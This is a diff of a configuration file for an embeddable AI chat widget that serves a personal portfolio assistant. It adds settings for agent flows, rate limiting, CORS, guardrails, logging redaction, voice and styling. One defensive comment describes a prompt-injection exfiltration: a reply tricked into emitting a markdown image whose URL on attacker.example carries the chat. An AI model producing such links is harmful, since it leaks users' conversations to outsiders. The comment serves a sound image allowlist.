@@ -6,37 +6,312 @@
 // The goal is to keep the main component clean and maintainable.
 //
 // Key Features:
-// - Stores the descriptive header for the chat component.
+// - Stores the registry of named agent flows (URL, API key, header, prompts).
 // - Provides metadata such as the author and version.
 // - Can be extended for additional configuration settings in the future.
 // =============================================================================
 
 const chatConfig = {
-  flowURL:
-    "https://api.zerowidth.ai/v1/process/xqu2zft7pfneFQOP4CCM/DESE4SA2IeBVMw0zCaUa",
-  header: {
-    title: "Let's chat",
-    description:
-      "Hello! I'm Jun's assistant. Ask me about Jun's work, interests, or anything else you'd like to know.",
-  },
-  suggestedPromptsTitle: "Try asking:",
-  suggestedPrompts: [
-    "Favorite project?",
-    "Mother's maiden name?",
-    "Tell me about yourself"
-  ],
-  chatInputPlaceholder: "Type your message here...",
-  maxChatHeight: 300,
-  // Added styling configurations to match website
+  // Name of the flow used when none is requested.
+  defaultFlow: "portfolio",
+  // Registry of agent flows served by this deployment. Each key is the name
+  // used in the embed URL (?flow=portfolio) and in the proxy route
+  // (/api/proxy/portfolio).
+  flows: {
+    portfolio: {
+      // Which backend answers: "zerowidth", "openai" (any OpenAI-compatible
+      // chat-completions API) or "mock" (offline stub). See lib/providers.
+      provider: "zerowidth",
+      flowURL:
+        "https://api.zerowidth.ai/v1/process/xqu2zft7pfneFQOP4CCM/DESE4SA2IeBVMw0zCaUa",
+      // Name of the environment variable that holds this flow's API key.
+      apiKeyEnv: "ZEROWIDTH_API_KEY",
+      // Optional: this flow's own wording for the guardrail refusals in
+      // config/guardrails.json, or `enabled: false` to skip the guardrails.
+      // guardrails: {
+      //   refusals: { default: "Let's keep to Jun's work, please!" },
+      // },
+      // Optional: backends to try, in order, if this one is down or rate
+      // limited. Each entry takes the same settings as a flow's provider.
+      // fallbacks: [
+      //   { provider: "openai", model: "gpt-4o-mini", apiKeyEnv: "OPENAI_API_KEY",
+      //     systemPrompt: "You are Jun's assistant." },
+      // ],
+      header: {
+        title: "Ask my AI self...",
+        description:
+          "Hello! I'm Jun's assistant. Ask me about Jun's work, interests, or anything else you'd like to know.",
+      },
+      // Starter prompts. Entries can also be objects with a weight and an A/B
+      // variant, e.g. { text: "Favorite project?", weight: 2, variant: "A" }
+      // (see lib/prompts.js).
+      suggestedPrompts: [
+        "Favorite project?",
+        "What are you working on?",
+        "Tell me about yourself"
+      ],
+      // Optional: load the starter prompts from an API instead. It must return
+      // a JSON list in the same format (or { prompts: [...] }). The visitor's
+      // locale is added as ?locale=es.
+      // promptsURL: "https://example.com/prompts.json",
+      // The header and starter prompts in other languages, by locale (see
+      // `i18n` below). Anything left out uses the text above.
+      locales: {
+        es: {
+          header: {
+            title: "Pregúntale a mi yo de IA...",
+            description:
+              "¡Hola! Soy el asistente de Jun. Pregúntame sobre el trabajo de Jun, sus intereses o cualquier otra cosa que quieras saber.",
+          },
+          suggestedPrompts: ["¿Proyecto favorito?", "¿En qué estás trabajando?", "Háblame de ti"],
+        },
+        ar: {
+          header: {
+            title: "اسأل نسختي الذكية...",
+            description:
+              "مرحبًا! أنا مساعد جون. اسألني عن عمل جون أو اهتماماته أو أي شيء آخر تود معرفته.",
+          },
+          suggestedPrompts: ["ما مشروعك المفضل؟", "على ماذا تعمل الآن؟", "حدثني عن نفسك"],
+        },
+      },
+    },
+    // Add more agents here, for example:
+    // support: {
+    //   flowURL: "https://api.zerowidth.ai/v1/process/<project>/<agent>",
+    //   apiKeyEnv: "ZEROWIDTH_SUPPORT_API_KEY",
+    //   header: { title: "Need a hand?", description: "..." },
+    //   suggestedPrompts: ["How do I get started?"],
+    // },
+    // An OpenAI-compatible backend (baseURL defaults to OpenAI's API):
+    // assistant: {
+    //   provider: "openai",
+    //   baseURL: "http://localhost:11434/v1",
+    //   model: "llama3.1",
+    //   apiKeyEnv: "OLLAMA_API_KEY",
+    //   systemPrompt: "You are a helpful assistant. Answer in the language {{locale}}. Suggest {{follow_up_count}} follow-up questions.",
+    //   header: { title: "Ask me anything", description: "..." },
+    //   suggestedPrompts: ["What can you do?"],
+    // },
+    // An offline stub for local development and demos:
+    // demo: {
+    //   provider: "mock",
+    //   header: { title: "Demo agent", description: "Replies are canned." },
+    //   suggestedPrompts: ["Hello?"],
+    // },
+  },
+  // Abuse protection for /api/proxy. Limits apply per IP address and per
+  // user_id/session_id. Set a value to 0 to turn that limit off.
+  rateLimit: {
+    perMinute: 10,
+    perDay: 200,
+    maxMessageLength: 2000,
+    // How many reverse proxies in front of this app add the caller's address
+    // to the X-Forwarded-For header. The IP limit uses the address the
+    // outermost one saw; everything to its left is sent by the caller and
+    // can be made up. With 0 the header is ignored and the connection's
+    // address is used. Vercel puts one proxy in front of the app.
+    trustedProxies: process.env.VERCEL ? 1 : 0,
+  },
+  // Controls who may embed the widget and call /api/proxy.
+  security: {
+    // Sites allowed to embed the widget (CSP frame-ancestors) and to call the
+    // proxy from the browser (CORS), e.g. "https://example.com" or
+    // "https://*.example.com". Leave empty to allow any site. The
+    // ALLOWED_ORIGINS env variable (comma separated) overrides this list.
+    allowedOrigins: [],
+    // When true, the proxy only answers requests carrying a valid signed embed
+    // token (see lib/embedToken.js). The signing secret is read from the
+    // EMBED_TOKEN_SECRET env variable.
+    requireEmbedToken: false,
+    // Sites agent replies may show images from, in the same format as
+    // allowedOrigins. Loading an image tells its server who is reading and
+    // anything put in its URL, so a reply tricked into linking
+    // ![](https://attacker.example/?q=<the chat>) would leak the conversation.
+    // Images from other sites show as their alt text. Empty = no images.
+    replyImageOrigins: [],
+  },
+  // Saves each session's transcript in the browser so reloads keep the chat.
+  history: {
+    enabled: true,
+    // Only the most recent messages are kept.
+    maxMessages: 50,
+    // Transcripts untouched for this long are deleted.
+    ttlHours: 24,
+  },
+  // Lets visitors download their chat or share it as a read-only link.
+  sharing: {
+    // Set to false to hide "Copy share link" (downloads stay available).
+    enabled: true,
+    // Shared links stop working after this many days.
+    ttlDays: 30,
+    // Longest transcript that can be shared.
+    maxMessages: 200,
+  },
+  // Files visitors can attach to a message (see lib/attachments.js). The
+  // proxy checks the same limits again.
+  attachments: {
+    enabled: true,
+    // Most files per message.
+    maxFiles: 3,
+    // Largest file, in bytes.
+    maxFileSize: 5 * 1024 * 1024,
+    allowedTypes: [
+      "image/png",
+      "image/jpeg",
+      "image/gif",
+      "image/webp",
+      "application/pdf",
+      "text/plain",
+      "text/markdown",
+    ],
+  },
+  // Talking to the agent and hearing its replies (see lib/voice.js).
+  voice: {
+    // Microphone button next to the send button. It uses the browser's own
+    // speech recognition where there is one (Chrome, Safari, Edge), and
+    // otherwise records the visitor and sends the audio to /api/transcribe
+    // if `transcription` is set. Either way the text lands in the composer
+    // to be checked before sending.
+    input: true,
+    // "Read aloud" toggle that speaks each reply with the browser's voices.
+    readAloud: true,
+    // Longest recording sent to /api/transcribe, in seconds and bytes.
+    maxRecordingSeconds: 60,
+    maxAudioSize: 10 * 1024 * 1024,
+    // Speech-to-text for browsers without speech recognition (see
+    // lib/transcription.js). Off by default: without it, those browsers
+    // simply don't show the microphone button.
+    transcription: null,
+    // transcription: { provider: "openai", model: "whisper-1", apiKeyEnv: "OPENAI_API_KEY" },
+    // Recordings sent to /api/transcribe per IP address. Counted separately
+    // from chat messages, so keep these below rateLimit: each recording
+    // usually becomes a message as well.
+    rateLimit: {
+      perMinute: 5,
+      perDay: 50,
+    },
+  },
+  // Suggested questions: follow-ups after each reply, and click tracking.
+  suggestions: {
+    // Ask the flow for follow-up questions and show them as chips after each
+    // reply. The proxy sends the flow a `follow_up_count` variable and reads
+    // the questions from output_data.suggestions.
+    followUps: true,
+    maxFollowUps: 3,
+    // Record which suggestions are shown and clicked (see /admin).
+    trackClicks: true,
+  },
+  // Screens visitors' messages and the agent's replies for blocked topics
+  // and personal data. The rules live in config/guardrails.json.
+  guardrails: {
+    enabled: true,
+  },
+  // Thumbs up/down on agent replies, stored by /api/feedback. Shown only on
+  // replies signed by the proxy, so set the SHARE_SIGNING_SECRET env variable
+  // (see lib/replySignature.js). The visitor's question is saved with the
+  // rating only when `logging.enabled` is true.
+  feedback: {
+    enabled: true,
+  },
+  // Server-side record of every question and answer (see lib/conversationLog.js).
+  // Off by default: turn it on only if your privacy policy covers it.
+  logging: {
+    enabled: false,
+    // Records older than this many days are deleted.
+    retentionDays: 30,
+    // What to mask in prompts and replies before they are written.
+    redact: {
+      emails: true,
+      phoneNumbers: true,
+      creditCards: true,
+      ipAddresses: true,
+      // Extra regular expressions (as strings) to mask, e.g. "\\bACME-\\d+\\b".
+      patterns: [],
+    },
+  },
+  // Reuses the agent's replies to common questions, such as the suggested
+  // prompts (see lib/responseCache.js). Off by default. Only stateless
+  // requests (`stateful: false`) are cached; the widget's own conversations
+  // are stateful and always reach the agent.
+  cache: {
+    enabled: false,
+    // How long a reply is reused.
+    ttlSeconds: 3600,
+    // Most replies kept in memory at once.
+    maxEntries: 500,
+  },
+  // Languages the widget speaks (see lib/i18n.js). Its text lives in
+  // config/locales, one file per locale. The visitor's locale comes from the
+  // embed (?locale=es) or their browser, and is sent to the flow as a
+  // `locale` variable so the agent can answer in the same language.
+  i18n: {
+    // Used when the visitor's language has no bundle.
+    defaultLocale: "en",
+  },
+  // Timeouts and retries for agent requests.
+  requests: {
+    // How long the widget waits without hearing anything before giving up.
+    clientTimeoutMs: 60000,
+    // How long the proxy waits for ZeroWidth to start answering, per attempt.
+    upstreamTimeoutMs: 30000,
+    // Extra attempts the proxy makes after a 5xx or network error.
+    upstreamRetries: 2,
+    // Delay before the first retry; it doubles on each further attempt.
+    retryBaseDelayMs: 500,
+  },
+  // When true, replies are streamed token by token instead of arriving all at once.
+  stream: true,
+  // Height (px) the message list can grow to before it scrolls.
+  maxChatHeight: 150,
+  // Height (px) the message composer can grow to before it scrolls.
+  maxComposerHeight: 120,
+  // Every color, font, size and icon the widget uses. Any string value here
+  // can be overridden per embed from the URL, e.g. ?primaryColor=%23123456.
   styling: {
-    fontFamily: "Orkney, sans-serif",
+    // "light", "dark", or "auto" to follow the visitor's system setting.
+    colorScheme: "light",
+    fontFamily: "Inter, sans-serif",
+    fontSize: "14px",
+    headerFontSize: "16px",
+    // Chat card, send button and loading circles.
     primaryColor: "#000000",
+    // Text and icons on the card, and the input field.
     secondaryColor: "#FFFFFF",
-    accentColor: "#000000",
-    userBubbleColor: "#EFEFEF",
-    userBubbleBorder: "#000000",
+    // Hover states and secondary text.
+    accentColor: "#818181",
+    // Page behind the widget, and text placed directly on it.
+    backgroundColor: "#FFFFFF",
+    textColor: "#000000",
+    inputTextColor: "#000000",
+    errorColor: "red",
+    scrollbarColor: "#555555",
+    userBubbleColor: "#FFFFFF",
+    userBubbleTextColor: "#000000",
+    userBubbleBorder: "#FFFFFF",
     agentBubbleColor: "#000000",
-    agentBubbleTextColor: "#FFFFFF"
+    agentBubbleTextColor: "#FFFFFF",
+    agentBubbleBorder: "#FFFFFF",
+    borderRadius: "16px",
+    bubbleRadius: "0.75em",
+    buttonRadius: "8px",
+    shadow: "0 4px 8px rgba(0, 0, 0, 0.1)",
+    expandedWidth: "400px",
+    collapsedWidth: "280px",
+    headerIcon: "/sparkle.svg",
+    submitIcon: "/arrow_upward.svg",
+    attachIcon: "/attach_file.svg",
+    micIcon: "/mic.svg",
+    // Applied on top of the values above when the dark scheme is active.
+    dark: {
+      primaryColor: "#1C1C1E",
+      accentColor: "#A1A1A6",
+      backgroundColor: "#121212",
+      textColor: "#F5F5F7",
+      agentBubbleColor: "#1C1C1E",
+      agentBubbleBorder: "#3A3A3C",
+      scrollbarColor: "#8E8E93",
+      shadow: "0 4px 8px rgba(0, 0, 0, 0.4)",
+    },
   }
 };
 